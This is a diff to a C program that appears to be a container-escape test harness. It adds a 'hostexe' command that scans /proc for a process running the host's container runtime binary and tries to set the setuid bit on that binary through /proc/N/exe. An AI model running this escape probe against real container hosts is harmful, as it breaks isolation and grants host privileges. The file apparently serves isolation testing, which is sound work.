@@ -125,6 +125,32 @@ static void poll_procs(const char* marker, const char* out, int seconds) {
     fclose(f);
 }
 
+// Looks for a process whose executable is the host file with device DEV and inode INO (the container
+// binary, while a `run` joins) and tries to change that file through /proc/N/exe.
+static void host_exe(unsigned long dev, unsigned long ino, const char* out, int seconds) {
+    FILE* f = fopen(out, "w");
+    long hits = 0, looks = 0;
+    time_t end = time(NULL) + seconds;
+    char path[300];
+    while (time(NULL) < end) {
+        DIR* d = opendir("/proc");
+        struct dirent* e;
+        while (d && (e = readdir(d))) {
+            if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
+            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
+            struct stat st;
+            ++looks;
+            if (stat(path, &st) != 0 || st.st_dev != dev || st.st_ino != ino) continue;
+            ++hits;
+            fprintf(f, "reached the host binary through %s\n", path);
+            if (chmod(path, st.st_mode | S_ISUID) == 0) fprintf(f, "chmod worked\n");
+        }
+        if (d) closedir(d);
+    }
+    fprintf(f, "looks %ld hits %ld\n", looks, hits);
+    fclose(f);
+}
+
 static void mknod_block(void) {
     int ok = mknod("/tmp/escape-blk", S_IFBLK | 0600, makedev(254, 0)) == 0;
     if (ok) {
@@ -145,6 +171,8 @@ int main(int argc, char** argv) {
         tiocsti(argv[2]);
     } else if (!strcmp(cmd, "keys") && argc > 2) {
         keys(argv[2]);
+    } else if (!strcmp(cmd, "hostexe") && argc > 5) {
+        host_exe(strtoul(argv[2], NULL, 0), strtoul(argv[3], NULL, 0), argv[4], atoi(argv[5]));
     } else if (!strcmp(cmd, "poll") && argc > 4) {
         poll_procs(argv[2], argv[3], atoi(argv[4]));
     } else if (!strcmp(cmd, "addkey") && argc > 3) {
